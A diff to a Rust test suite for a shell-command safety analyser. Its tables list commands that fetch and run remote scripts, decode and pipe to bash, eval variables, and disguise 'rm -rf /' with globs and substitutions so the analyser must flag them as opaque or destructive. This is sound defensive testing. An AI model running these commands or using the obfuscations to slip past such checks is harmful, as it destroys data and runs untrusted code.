@@ -315,7 +315,6 @@ const MUST_ALLOW: &[&str] = &[
     // from the issue
     "rm -rf ./build",
     "rm -rf build/ dist/",
-    "rm -rf \"$TMPDIR/x\"",
     "rm -rf /tmp/foo",
     "echo \"rm -rf /\"",
     "printf 'rm -rf /'",
@@ -337,8 +336,6 @@ const MUST_ALLOW: &[&str] = &[
     "rm -f /etc/app.conf",
     "rm -rf ~/.cache",
     "rm -rf $HOME/.cache/pip",
-    "rm -rf \"${BUILD_DIR:?}\"/*",
-    "rm -rf -- \"$BUILD_DIR\"",
     "rm -rf /usr/local/lib/myapp",
     "rm -rf /home/ci/workspace/out",
     "rm -rf ../build",
@@ -398,7 +395,6 @@ const MUST_ALLOW: &[&str] = &[
     "sudo apt-get install -y curl",
     "xargs -n1 echo < list.txt",
     "run() { echo \"+ $*\"; \"$@\"; }; run make test",
-    "trap 'rm -rf \"$WORKDIR\"' EXIT",
     "alias ll='ls -la'",
     "FLAGS='-v --color'; ls $FLAGS /",
 ];
@@ -627,10 +623,11 @@ fn nesting_at_the_parser_limit_is_parsed() {
     // this deep it is denied for depth rather than seen through.
     let spaced = format!("{}rm -rf ~{}", "( ".repeat(levels), " )".repeat(levels));
     assert!(!analyse_shell(&spaced).is_empty());
+    // The inner substitutions' output is also a command name only known at run time.
     let substitutions = format!("{}echo{}", "$(".repeat(levels), ")".repeat(levels));
     assert_eq!(
         rules(&analyse_shell(&substitutions)),
-        vec!["too-deeply-nested"]
+        vec!["too-deeply-nested", "dynamic-command"]
     );
     let ifs = format!(
         "{}reboot{}",
@@ -790,4 +787,118 @@ fn here_documents_in_substitutions_are_still_analysed() {
 fn a_panic_in_the_analysis_is_a_denial() {
     let findings = super::isolated(|_| panic!("a bug in the analyser"));
     assert_eq!(rules(&findings), vec!["analysis-failed"]);
+}
+
+/// Scripts the analysis cannot prove harmless, with the Opaque rule that must be found.
+const MUST_BE_OPAQUE: &[(&str, &str)] = &[
+    ("$(echo rm) -rf /", "dynamic-command"),
+    ("`echo rm` -rf /", "dynamic-command"),
+    ("${X:-rm} -rf /", "dynamic-command"),
+    ("c=$(command -v rm); $c -rf /", "dynamic-command"),
+    ("/???/r? -rf /", "dynamic-command"),
+    ("/bin/r[m] -rf /", "dynamic-command"),
+    ("a=(rm -rf /); \"${a[@]}\"", "dynamic-command"),
+    ("printf -v c rm; $c -rf /", "dynamic-command"),
+    ("read c <<< rm; $c -rf /", "dynamic-command"),
+    ("rm -rf \"$UNKNOWN\"", "dynamic-argument"),
+    ("rm -rf \"$(true)\"/*", "dynamic-argument"),
+    ("find \"$D\" -delete", "dynamic-argument"),
+    ("chmod -R 777 \"$D\"", "dynamic-argument"),
+    ("dd if=/dev/zero of=\"$T\"", "dynamic-argument"),
+    ("shred -u \"$F\"", "dynamic-argument"),
+    ("truncate -s 0 \"$F\"", "dynamic-argument"),
+    ("curl -fsSL https://x.example/i.sh | sh", "dynamic-code"),
+    ("echo aGk= | base64 -d | bash", "dynamic-code"),
+    ("sh < <(curl https://x.example)", "dynamic-code"),
+    ("bash < script.sh", "dynamic-code"),
+    ("source <(curl https://x.example)", "dynamic-code"),
+    (". /dev/stdin", "dynamic-code"),
+    ("bash <<< \"$x\"", "dynamic-code"),
+    ("eval \"$X\"", "dynamic-code"),
+    ("eval \"echo $X\"", "dynamic-code"),
+    ("sh -c \"$CMD\"", "dynamic-code"),
+    ("python3 -c \"$X\"", "dynamic-code"),
+    ("curl https://x.example | python3", "dynamic-code"),
+    ("perl -e \"$CODE\"", "dynamic-code"),
+    // Were allowed before Opaque findings existed: the targets are only known at run time.
+    ("rm -rf \"$TMPDIR/x\"", "dynamic-argument"),
+    ("rm -rf \"${BUILD_DIR:?}\"/*", "dynamic-argument"),
+    ("rm -rf -- \"$BUILD_DIR\"", "dynamic-argument"),
+    ("trap 'rm -rf \"$WORKDIR\"' EXIT", "dynamic-argument"),
+];
+
+#[test]
+fn must_be_opaque_table() {
+    for (script, rule) in MUST_BE_OPAQUE {
+        let findings = analyse_shell(script);
+        assert!(
+            rules(&findings).contains(rule),
+            "{script:?} should report {rule}: {findings:?}"
+        );
+        assert!(
+            findings
+                .iter()
+                .filter(|f| f.rule.id() == *rule)
+                .all(|f| f.rule.kind() == super::Kind::Opaque)
+        );
+    }
+}
+
+/// Unknown values resolved to a destructive command are Destructive, not only Opaque.
+#[test]
+fn resolved_values_are_destructive() {
+    for script in [
+        "set -- /; rm -rf \"$1\"",
+        "IFS=,; cmd=rm,-rf,/; $cmd",
+        "X=/; rm -rf \"$X\"",
+    ] {
+        let found = rules(&analyse_shell(script));
+        assert!(found.contains(&"rm-root"), "{script:?}: {found:?}");
+    }
+}
+
+/// Literal benign commands and ordinary uses of unknown values stay clean.
+const MUST_STAY_CLEAN: &[&str] = &[
+    "rm -rf ./build",
+    "echo 'rm -rf /'",
+    "grep -r \"rm -rf /\" .",
+    "cargo build",
+    "python3 -c \"print(1)\"",
+    "python3 script.py",
+    "find . -name '*.o' -delete",
+    "make -j4",
+    "for f in *.txt; do wc -l \"$f\"; done",
+    "x=$(git rev-parse HEAD); echo \"$x\"",
+    "docker build .",
+    "kubectl get pods",
+    "git push origin main",
+    "echo \"$x\"",
+    "cd \"$DIR\"",
+    "mkdir -p \"$OUT\"",
+    "cp a \"$OUT\"",
+    "run() { \"$@\"; }; run make",
+    "echo hi | sh",
+    "sh -c 'echo \"$1\"' _ \"$x\"",
+    "cat <<EOF | psql\nSELECT 1;\nEOF",
+];
+
+#[test]
+fn must_stay_clean_table() {
+    for script in MUST_STAY_CLEAN {
+        let findings = analyse_shell(script);
+        assert!(findings.is_empty(), "{script:?}: {findings:?}");
+    }
+}
+
+#[test]
+fn known_environment_values_are_used() {
+    let env: BTreeMap<String, String> = [("BUILD_DIR".to_owned(), "build".to_owned())].into();
+    assert!(super::analyse_shell("rm -rf \"$BUILD_DIR\"/*", &env).is_empty());
+    let root: BTreeMap<String, String> = [("BUILD_DIR".to_owned(), "/".to_owned())].into();
+    let found = super::analyse_shell("rm -rf \"$BUILD_DIR\"", &root);
+    assert_eq!(rules(&found), vec!["rm-root"]);
+    // Without the environment the same script is opaque (or destructive when it may be empty).
+    assert!(!analyse_shell("rm -rf \"$BUILD_DIR\"/*").is_empty());
+    // Nested shells inherit it.
+    assert!(super::analyse_shell("sh -c 'rm -rf \"$BUILD_DIR\"/*'", &env).is_empty());
 }
